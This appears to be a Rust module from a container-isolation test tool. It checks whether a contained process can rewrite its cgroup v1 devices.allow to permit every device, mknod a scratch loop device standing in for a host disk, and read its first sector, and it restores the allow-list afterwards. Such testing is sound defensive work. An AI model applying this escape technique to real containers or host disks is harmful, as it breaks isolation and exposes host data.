//! **E46 cgroup v1 devices.allow rewrite.** Finds the devices hierarchy of the probe's own cgroup
//! (its `cgroup.procs` must list the probe: never another cgroup's), writes `a` (every device,
//! rwm) to its `devices.allow`, then mknods the caller's scratch loop device (`--block-dev`,
//! the stand-in for a host disk) and reads its first sector: the device allow-list the runtime
//! set is gone. The allow-list is put back afterwards (`a` to `devices.deny`, then each line
//! `devices.list` held before), so the techniques that run later see the runtime's.
//!
//! Stopped by: a read-only cgroupfs (M), a cgroup namespace or no cgroupfs in the container,
//! CAP_SYS_ADMIN (the kernel's check on devices.allow writes), an LSM. Not applicable where the
//! kernel has no cgroup v1 devices controller (a cgroup v2 host: the device allow-list is a BPF
//! program there, not a file).

use crate::outcome::Layer;
use crate::state::cap;
use crate::{errno_name, sys, Ctx, Outcome, Technique};
use std::os::fd::AsRawFd;
use std::path::{Path, PathBuf};

pub const T: Technique = Technique {
    id: "devices-allow",
    eid: "E46",
    title: "rewrite the cgroup v1 devices.allow, then open the host disk stand-in",
    layers: "M (ro cgroupfs), G (cgroupns), C (SYS_ADMIN, MKNOD), L",
    run,
};

/// The probe's cgroup path in the v1 devices hierarchy, from `/proc/self/cgroup` text; None
/// when there is no v1 devices controller.
pub fn devices_path(proc_self_cgroup: &str) -> Option<String> {
    proc_self_cgroup.lines().find_map(|l| {
        let mut f = l.splitn(3, ':');
        let _id = f.next()?;
        let ctrls = f.next()?;
        let path = f.next()?;
        ctrls
            .split(',')
            .any(|c| c == "devices")
            .then(|| path.to_string())
    })
}

pub(crate) fn lists_pid(dir: &Path, pid: u32) -> bool {
    sys::read_to_string(dir.join("cgroup.procs"))
        .map(|t| t.lines().any(|l| l.trim() == pid.to_string()))
        .unwrap_or(false)
}

fn run(ctx: &Ctx) -> Outcome {
    let text = sys::read_to_string("/proc/self/cgroup").unwrap_or_default();
    let Some(path) = devices_path(&text) else {
        return Outcome::na(
            "no cgroup v1 devices controller (a cgroup v2 host keeps the allow-list in BPF)",
        );
    };
    let pid = std::process::id();
    let base = PathBuf::from("/sys/fs/cgroup/devices");
    let candidates = [base.clone(), base.join(path.trim_start_matches('/'))];
    let Some(dir) = candidates.iter().find(|d| lists_pid(d, pid)) else {
        return Outcome::blocked_by(
            Layer::MountNamespace,
            format!(
                "no devices hierarchy of our own cgroup visible ({} not listing pid {pid})",
                base.display()
            ),
        );
    };
    let before = match sys::read_to_string(dir.join("devices.list")) {
        Ok(t) => t,
        Err(e) => return Outcome::inconclusive(format!("devices.list: {}", errno_name(e))),
    };
    allow_all_and_open(ctx, dir, &before, "", Some(cap::SYS_ADMIN), "")
}

/// E46's steps in the allow-list directory `dir` (the cgroup's own, or lxcfs's view of it), whose
/// `devices.list` read `before`: write `a` to `devices.allow`, mknod and read the stand-in disk,
/// put the list back. Escaped when the stand-in was read, exposed when only the write went
/// through. `via` names the route in each step (e.g. " through lxcfs"), `write_cap` is the
/// capability a refused write points at, `note` is said after the file's path.
pub(crate) fn allow_all_and_open(
    ctx: &Ctx,
    dir: &Path,
    before: &str,
    via: &str,
    write_cap: Option<u32>,
    note: &str,
) -> Outcome {
    let allow = dir.join("devices.allow");
    let fd = match sys::open(&allow, libc::O_WRONLY) {
        Ok(fd) => fd,
        Err(e) => {
            return ctx.blocked_open(
                e,
                &allow.to_string_lossy(),
                libc::O_WRONLY,
                &format!("open devices.allow{via}"),
            )
        }
    };
    if let Err(e) = sys::write_fd(&fd, b"a") {
        return ctx.blocked(e, write_cap, &format!("write \"a\" to devices.allow{via}"));
    }
    drop(fd);
    let all = |t: &str| t.lines().any(|l| l.trim() == "a *:* rwm");
    let all_before = all(before);
    let after = sys::read_to_string(dir.join("devices.list")).unwrap_or_default();
    let opened = open_stand_in(ctx);
    let restored = restore(dir, before, all_before);
    let mut d = format!(
        "wrote \"a\" to {}{note}{}",
        allow.display(),
        if all_before {
            "; it already allowed every device"
        } else if all(&after) {
            "; devices.list became \"a *:* rwm\""
        } else {
            ""
        }
    );
    match &opened {
        Some(Ok(msg)) | Some(Err(msg)) => d.push_str(&format!("; {msg}")),
        None => d.push_str("; no --block-dev target to open"),
    }
    if let Err(e) = restored {
        d.push_str(&format!("; restoring the allow-list failed: {e}"));
    }
    match opened {
        Some(Ok(_)) => Outcome::escaped(d),
        _ => Outcome::exposed(d),
    }
}

/// mknod the scratch block device and read its first sector: Ok(what was read) or Err(why not).
pub(crate) fn open_stand_in(ctx: &Ctx) -> Option<Result<String, String>> {
    let (maj, min) = ctx.cfg.block_dev?;
    let majmin = format!("{maj}:{min}");
    if let Some(m) = sys::mountinfo().into_iter().find(|m| m.dev == majmin) {
        return Some(Err(format!(
            "refusing {majmin}: it backs {} here",
            m.mount_point
        )));
    }
    let scratch = match sys::Scratch::new(ctx.cfg.scratch.as_deref(), "devallow", true) {
        Ok(s) => s,
        Err(e) => return Some(Err(format!("no scratch dir: {}", errno_name(e)))),
    };
    let node = scratch.join("blk");
    if let Err(e) = sys::mknod(&node, libc::S_IFBLK | 0o600, maj, min) {
        return Some(Err(format!("mknod b {majmin}: {}", errno_name(e))));
    }
    let fd = match sys::open(&node, libc::O_RDONLY) {
        Ok(fd) => fd,
        Err(e) => return Some(Err(format!("open b {majmin}: {}", errno_name(e)))),
    };
    let mut buf = [0u8; 512];
    // SAFETY: reading into a local buffer from our fd.
    let n = unsafe { libc::read(fd.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len()) };
    if n < 0 {
        return Some(Err(format!(
            "read b {majmin}: {}",
            errno_name(sys::errno())
        )));
    }
    Some(Ok(format!(
        "mknod b {majmin} (the stand-in host disk) and read {n} bytes of it"
    )))
}

/// Put the allow-list back as `devices.list` showed it.
pub(crate) fn restore(dir: &Path, before: &str, all_before: bool) -> Result<(), String> {
    if all_before {
        return Ok(());
    }
    sys::write_str(dir.join("devices.deny"), "a")
        .map_err(|e| format!("devices.deny a: {}", errno_name(e)))?;
    for l in before.lines().map(str::trim).filter(|l| !l.is_empty()) {
        sys::write_str(dir.join("devices.allow"), l)
            .map_err(|e| format!("devices.allow {l}: {}", errno_name(e)))?;
    }
    let now = sys::read_to_string(dir.join("devices.list")).unwrap_or_default();
    let norm = |t: &str| {
        let mut v: Vec<String> = t.lines().map(|l| l.trim().to_string()).collect();
        v.sort();
        v
    };
    if norm(&now) != norm(before) {
        return Err(format!("devices.list is now {:?}", now.trim()));
    }
    Ok(())
}
